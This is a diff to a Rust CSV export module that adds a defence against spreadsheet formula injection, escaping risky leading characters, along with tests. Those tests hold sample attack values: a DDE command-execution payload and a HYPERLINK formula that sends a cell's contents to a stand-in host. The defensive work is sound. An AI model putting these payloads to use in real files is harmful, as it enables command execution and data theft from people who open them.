@@ -1,6 +1,9 @@
 //! CSV tables (RFC 4180: comma-separated, fields quoted when they hold a comma, a quote or a line
 //! break). Numbers are written in Rust's shortest round-trip form, so reading them back gives the
-//! same bits.
+//! same bits. Every text cell goes through [`text_cell`], which also keeps spreadsheets from reading
+//! text from a scenario file (a label `=HYPERLINK(…)`) as a formula; numbers are written as
+//! numbers, so a negative value stays a number. Every CSV the page or the command line writes is
+//! made here.
 
 use std::fmt::Write;
 
@@ -9,12 +12,25 @@ use crate::analysis::sweep::{Axis, SweepRow};
 use crate::engine::Summary;
 use crate::scenario::Scenario;
 
-/// A text field, quoted if it needs to be.
-fn field(text: &str) -> String {
+/// A text cell: neutralised if a spreadsheet could take it for a formula, then quoted if it
+/// needs to be.
+///
+/// The usual leading-apostrophe rule (OWASP, "CSV injection"): text whose first character is
+/// `=`, `+`, `-`, `@`, a tab or a carriage return (also after leading spaces or line breaks,
+/// which some spreadsheets skip, and in their full-width forms) gets a `'` in front, which
+/// spreadsheets show as text and do not evaluate.
+pub fn text_cell(text: &str) -> String {
+    const TRIGGERS: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
+    let first = text.trim_start_matches([' ', '\n']).chars().next();
+    let text = match first {
+        Some(c) if TRIGGERS.contains(&c) => format!("'{text}"),
+        _ if text.starts_with(['\t', '\r']) => format!("'{text}"),
+        _ => text.to_string(),
+    };
     if text.contains([',', '"', '\n', '\r']) {
         format!("\"{}\"", text.replace('"', "\"\""))
     } else {
-        text.to_string()
+        text
     }
 }
 
@@ -22,7 +38,7 @@ fn field(text: &str) -> String {
 pub fn quantiles_csv(scenario: &Scenario, summary: &Summary) -> String {
     let mut out = String::from("pair,month,q05,q25,q50,q75,q95,mean\n");
     for (p, bands) in summary.pairs.iter().enumerate() {
-        let pair = scenario.pair_key(p);
+        let pair = text_cell(&scenario.pair_key(p));
         for (month, (q, mean)) in bands.quantiles.iter().zip(&bands.mean).enumerate() {
             let _ = writeln!(
                 out,
@@ -41,9 +57,9 @@ pub fn outcomes_csv(scenario: &Scenario, summary: &Summary) -> String {
         let _ = writeln!(
             out,
             "{},{},{},{},{},{},{},{}",
-            field(&spec.id),
-            field(&spec.label),
-            field(&spec.test),
+            text_cell(&spec.id),
+            text_cell(&spec.label),
+            text_cell(&spec.test),
             spec.outcome.when.keyword(),
             p.probability,
             p.std_error,
@@ -65,8 +81,8 @@ pub fn tornado_csv(scenario: &Scenario, tornado: &Tornado) -> String {
             out,
             "{},{},{},{},{},{},{},{},{},{},{},{},{},{},{}",
             rank + 1,
-            field(&a.id),
-            field(&a.label),
+            text_cell(&a.id),
+            text_cell(&a.label),
             a.confidence.as_str(),
             bar.low_value,
             bar.high_value,
@@ -89,11 +105,11 @@ pub fn tornado_csv(scenario: &Scenario, tornado: &Tornado) -> String {
 pub fn sweep_csv(scenario: &Scenario, axes: &[Axis], rows: &[SweepRow]) -> String {
     let mut header: Vec<String> = axes
         .iter()
-        .map(|axis| field(&scenario.assumptions[axis.assumption].id))
+        .map(|axis| text_cell(&scenario.assumptions[axis.assumption].id))
         .collect();
     for spec in &scenario.outcomes {
-        header.push(field(&spec.id));
-        header.push(field(&format!("{}_se", spec.id)));
+        header.push(text_cell(&spec.id));
+        header.push(text_cell(&format!("{}_se", spec.id)));
     }
     let mut out = header.join(",");
     out.push('\n');
@@ -117,10 +133,32 @@ mod tests {
 
     #[test]
     fn fields_are_quoted_only_when_needed() {
-        assert_eq!(field("plain"), "plain");
-        assert_eq!(field("a, b"), "\"a, b\"");
-        assert_eq!(field("say \"no\""), "\"say \"\"no\"\"\"");
-        assert_eq!(field("two\nlines"), "\"two\nlines\"");
+        assert_eq!(text_cell("plain"), "plain");
+        assert_eq!(text_cell("a, b"), "\"a, b\"");
+        assert_eq!(text_cell("say \"no\""), "\"say \"\"no\"\"\"");
+        assert_eq!(text_cell("two\nlines"), "\"two\nlines\"");
+    }
+
+    #[test]
+    fn text_a_spreadsheet_would_evaluate_is_neutralised() {
+        for (text, written) in [
+            ("=1+1", "'=1+1"),
+            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+            ("-2+3", "'-2+3"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\t=1", "'\t=1"),
+            ("  =1", "'  =1"),
+            ("＝1", "'＝1"),
+            (
+                "=HYPERLINK(\"http://x/?leak=\"&A1,\"Click\")",
+                "\"'=HYPERLINK(\"\"http://x/?leak=\"\"&A1,\"\"Click\"\")\"",
+            ),
+            ("\r=1", "\"'\r=1\""),
+            ("a = b", "a = b"),
+            ("RUS-CHN", "RUS-CHN"),
+        ] {
+            assert_eq!(text_cell(text), written, "{text:?}");
+        }
     }
 
     #[test]
